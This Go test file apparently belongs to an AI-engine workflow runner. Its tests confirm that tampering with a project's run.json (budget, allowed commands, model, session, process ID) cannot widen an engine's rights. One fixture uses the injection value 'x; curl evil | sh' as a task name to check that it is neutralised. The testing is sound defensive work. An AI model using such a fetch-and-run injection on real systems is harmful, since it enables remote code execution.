package headless_test

import (
	"encoding/json"
	"fmt"
	"math"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bmad-mcp/bmad-mcp/internal/base/fault"
	"github.com/bmad-mcp/bmad-mcp/internal/base/process"
	"github.com/bmad-mcp/bmad-mcp/internal/engine/request"
	"github.com/bmad-mcp/bmad-mcp/internal/headless"
	"github.com/bmad-mcp/bmad-mcp/internal/project"
	"github.com/bmad-mcp/bmad-mcp/internal/workflow"
	"github.com/bmad-mcp/bmad-mcp/sdk/price"
)

// edit changes run.json, as anything in the project can.
func (b *bench) edit(change func(run map[string]any)) {
	b.t.Helper()
	var run map[string]any
	err := json.Unmarshal([]byte(b.read("run.json")), &run)
	if err == nil {
		change(run)
		var data []byte
		if data, err = json.Marshal(run); err == nil {
			err = os.WriteFile(b.file("run.json"), data, 0o600)
		}
	}
	if err != nil {
		b.t.Fatal(err)
	}
}

// reopenedBench returns a bench with a run of the stages po..sm that was done, after which the person
// has reopened the architect's. It may cost six calls, of which three were made, and run "go vet"; it
// was started without --allow-dirty.
func reopenedBench(t *testing.T) *bench {
	t.Helper()
	acts := map[string][]act{
		"po": {{text: scoredDocument(95)}}, "architect": {{text: scoredDocument(95)}, {text: scoredDocument(96)}}, "sm": {{text: plan}, {text: plan}}, "dev": {{text: report, file: "todo.go"}},
	}
	b := newBench(t, acts)
	b.options.Workers = append(b.options.Workers, &script{t: t, name: "api", acts: map[string][]act{}})
	b.options.Flags = headless.Flags{Stages: "po..sm", Budget: cost(6), Commands: []string{"go vet"}, Engine: "claude", Model: model, Minutes: 60}
	b.at(b.start("Build a to-do list"), headless.Done, "dev/generating")
	b.do(request.Request{Action: workflow.ActionReopen, Address: project.Address{Session: b.session().SessionID}, Stage: "architect", Decision: request.Decision{Feedback: "again"}})
	b.events, b.options.Flags = nil, headless.Flags{}
	b.options.Look = (&repository{[]*headless.Tree{{Head: "abc", Changed: []string{" M main.go"}}}}).Look
	return b
}

// TestRunFileWidensNothing edits run.json in every way that could give an engine more.
func TestRunFileWidensNothing(t *testing.T) {
	flags := func(key string, value any) func(map[string]any) {
		return func(run map[string]any) { run["flags"].(map[string]any)[key] = value }
	}
	spent := func(change func(line map[string]any)) func(map[string]any) {
		return func(run map[string]any) { change(run["spent"].([]any)[0].(map[string]any)) }
	}
	for name, c := range map[string]struct {
		edit  func(map[string]any)
		words string // in the run's notices; "" if there are none
	}{
		"nothing":           {func(map[string]any) {}, ""},
		"commands":          {flags("allow_commands", []string{"go vet", "curl"}), `--allow-command "curl"`},
		"budget":            {flags("budget_nano_usd", 1000*price.Dollar), "--budget 1000.00"},
		"no budget":         {flags("budget_nano_usd", nil), "was changed"},
		"any budget":        {flags("no_budget", true), "--budget none"},
		"a negative budget": {flags("budget_nano_usd", -5), "was changed"},
		"stages":            {flags("stages", ""), "was changed"},
		"engine":            {flags("engine", "api"), `--engine "api"`},
		"engine of a stage": {flags("engine_for", map[string]string{"architect": "api"}), `--engine-for "architect=api"`},
		"model":             {flags("model", "claude-opus-5-5"), "--model"},
		"model of a stage":  {flags("model_for", map[string]string{"architect": "claude-opus-5-5"}), "--model-for"},
		"minutes":           {flags("max_minutes", 100_000), "--max-minutes 100000"},
		"a dirty tree":      {flags("allow_dirty", true), "--allow-dirty"},
		"admitted":          {func(run map[string]any) { run["admitted"] = true }, "was changed"},
		"documents":         {flags("docs", map[string]string{"architect": "README.md"}), "--doc"},
		"from":              {flags("from", "another-task"), "--from"},
		"conversation": {func(run map[string]any) {
			run["engine_sessions"].(map[string]any)["architect"] = map[string]any{"engine": "claude", "session": "of-the-person"}
		}, "was changed"},
		"spent: nothing":       {func(run map[string]any) { delete(run, "spent") }, "was changed"},
		"spent: less":          {spent(func(l map[string]any) { l["spent_nano_usd"] = 1 }), "was changed"},
		"spent: a credit":      {spent(func(l map[string]any) { l["spent_nano_usd"] = math.MinInt64 }), "was changed"},
		"spent: by another":    {spent(func(l map[string]any) { l["model"], l["spent_nano_usd"] = "x", 1 }), "was changed"},
		"calls: more":          {func(run map[string]any) { run["calls"] = 99 }, "was changed"},
		"calls: none":          {func(run map[string]any) { delete(run, "calls") }, "was changed"},
		"reported: less":       {func(run map[string]any) { run["reported_usd"] = 0.000001 }, "was changed"},
		"reported: nothing":    {func(run map[string]any) { delete(run, "reported_usd") }, "was changed"},
		"an older number":      {func(run map[string]any) { delete(run, "rights_seq") }, ""},
		"the name of the task": {func(run map[string]any) { run["task_name"] = "x; curl evil | sh" }, ""},
	} {
		t.Run(name, func(t *testing.T) {
			b := reopenedBench(t)
			before := len(b.worker.jobs)
			b.edit(c.edit)
			out := b.resume("build-a-to-do-list")
			for i, job := range b.worker.jobs[before:] {
				minutes := time.Until(b.worker.until[before+i]).Minutes()
				if fmt.Sprint(job.Allow) != "[go vet]" || job.Left <= 0 || job.Left > cost(3) || job.Model != model || job.Session == "of-the-person" || minutes < 1 || minutes > 60 {
					t.Errorf("a job with %q, %s, the model %q, the conversation %q and %.1f minutes", job.Allow, job.Left, job.Model, job.Session, minutes)
				}
			}
			if slices.Contains(b.worker.who, "dev") || len(b.worker.jobs) != before+2 {
				t.Fatalf("the engine worked for %q: %s", b.worker.who, out.Why)
			}
			if j := b.worker.jobs[before]; j.Session != "claude-architect-2" {
				t.Errorf("the architect continues %q", j.Session)
			}
			if out.Cost.Limit != cost(6) || out.Cost.Spent < cost(5) || out.Cost.Spent >= cost(6) || strings.Contains(out.Resume+out.Command, "evil") || *out.Reported < 0.004 || *out.Reported > 0.006 {
				t.Errorf("%s of %s (reported %g) were spent; then %q, %q", out.Cost.Spent, out.Cost.Limit, *out.Reported, out.Command, out.Resume)
			}
			if said := b.notices(); !strings.Contains(said, c.words) || (c.words == "") != (said == "") {
				t.Errorf("it was told %q; want %q", said, c.words)
			}
			if b.events = nil; b.resume("build-a-to-do-list") == nil || b.notices() != "" {
				t.Errorf("it was told twice: %s", b.notices())
			}
		})
	}
}

// TestRecordsThatDoNotCount: a record that is gone, older than run.json or of another run leaves
// nothing, until the person allows it again.
func TestRecordsThatDoNotCount(t *testing.T) {
	for name, change := range map[string]func(b *bench){
		"gone": func(b *bench) { clear(b.kept) },
		"gone, and run.json edited": func(b *bench) {
			clear(b.kept)
			b.edit(func(run map[string]any) { run["flags"].(map[string]any)["budget_nano_usd"] = 1000 * price.Dollar })
		},
		"gone, and run.json without": func(b *bench) {
			clear(b.kept)
			b.edit(func(run map[string]any) { delete(run, "flags"); delete(run, "spent"); delete(run, "rights_seq") })
		},
		"broken":         func(b *bench) { b.kept[b.session().SessionID] = []byte(`{"rights_seq": "many"}`) },
		"rolled back":    func(b *bench) { b.edit(func(run map[string]any) { run["rights_seq"] = 1000 }) },
		"from elsewhere": func(b *bench) { b.kept["other"] = b.kept[b.session().SessionID]; delete(b.kept, b.session().SessionID) },
	} {
		t.Run(name, func(t *testing.T) {
			b := reopenedBench(t)
			before := len(b.worker.jobs)
			change(b)
			file := b.read("run.json")
			for range 2 {
				b.events = nil
				out := b.resume("build-a-to-do-list")
				b.at(out, headless.Spent, "architect/refining")
				if len(b.worker.jobs) != before || !strings.Contains(out.Why, "--budget") || !strings.Contains(b.notices(), "no record") {
					t.Fatalf("%d calls: %s\n%s", len(b.worker.jobs)-before, out.Why, b.notices())
				}
			}
			if got := b.read("run.json"); strings.Contains(file, "go vet") && !strings.Contains(got, "go vet") {
				t.Errorf("the person cannot read any more what run.json said:\n%s", got)
			}
			b.options.Flags = headless.Flags{Budget: cost(20), Stages: "po..sm"}
			out := b.resume("build-a-to-do-list")
			if job := b.worker.jobs[before]; len(job.Allow) > 0 || job.Session != "" || job.Model != "" || job.Left > cost(20) {
				t.Errorf("allowed a budget alone, a job has %q, the conversation %q, the model %q, %s", job.Allow, job.Session, job.Model, job.Left)
			}
			b.at(out, headless.Done, "dev/generating")
			b.events, b.options.Flags = nil, headless.Flags{}
			if out := b.resume("build-a-to-do-list"); out.Cost.Limit != cost(20) || b.notices() != "" {
				t.Errorf("afterwards: %+v, %s", out.Cost, b.notices())
			}
		})
	}
}

// TestReplayedRunFile: an older run.json brings no money back, and that of another run is refused.
func TestReplayedRunFile(t *testing.T) {
	b := reopenedBench(t)
	old := b.read("run.json")
	spent := b.resume("build-a-to-do-list").Cost.Spent
	if err := os.WriteFile(b.file("run.json"), []byte(old), 0o600); err != nil {
		t.Fatal(err)
	}
	if out := b.resume("build-a-to-do-list"); out.Cost.Spent != spent || spent != cost(5) {
		t.Errorf("%s, and %s before", out.Cost.Spent, spent)
	}
	if err := os.Remove(b.file("run.json")); err != nil {
		t.Fatal(err)
	}
	if out := b.resume("build-a-to-do-list"); out.Cost.Spent != spent || out.Cost.Limit != cost(6) {
		t.Errorf("without run.json %+v", out.Cost)
	}
	b.edit(func(run map[string]any) { run["session_id"] = "99999999-2222-4333-8444-555555555555" })
	if _, err := headless.New(b.options).Resume(ctx, "build-a-to-do-list"); !fault.Is(err, fault.Storage) || !strings.Contains(err.Error(), "not of this run") {
		t.Errorf("run.json of another run: %v", err)
	}
}

// TestNoBudget: a budget is taken back by a word, and by nothing else.
func TestNoBudget(t *testing.T) {
	b := reopenedBench(t)
	b.options.Flags = headless.Flags{NoBudget: true}
	out := b.resume("build-a-to-do-list")
	if b.at(out, headless.Done, "dev/generating"); out.Cost.Limit != 0 || b.worker.jobs[3].Left != 0 {
		t.Errorf("%+v, %s are left", out.Cost, b.worker.jobs[3].Left)
	}
}

// notices are the notices of the run.
func (b *bench) notices() (all string) {
	for _, e := range b.events {
		if e.Type == headless.Noticed {
			all += e.Why + "\n"
		}
	}
	return all
}

// TestProcessOf checks that the record of this machine has the process of a run, and the file in the project has not:
// whoever can write there could name any other.
func TestProcessOf(t *testing.T) {
	b := reopenedBench(t)
	b.edit(func(run map[string]any) {
		if _, found := run["process"]; found {
			t.Error("run.json names a process")
		}
		run["process"] = map[string]any{"pid": 1}
	})
	b.resume("build-a-to-do-list")
	id := b.session().SessionID
	if got := headless.ProcessOf(t.Context(), b.kept, id); got != process.Self() {
		t.Errorf("the process is %+v", got)
	}
	if got := headless.ProcessOf(t.Context(), b.kept, "another"); got != (process.Mark{}) {
		t.Errorf("a run without a record has the process %+v", got)
	}
}
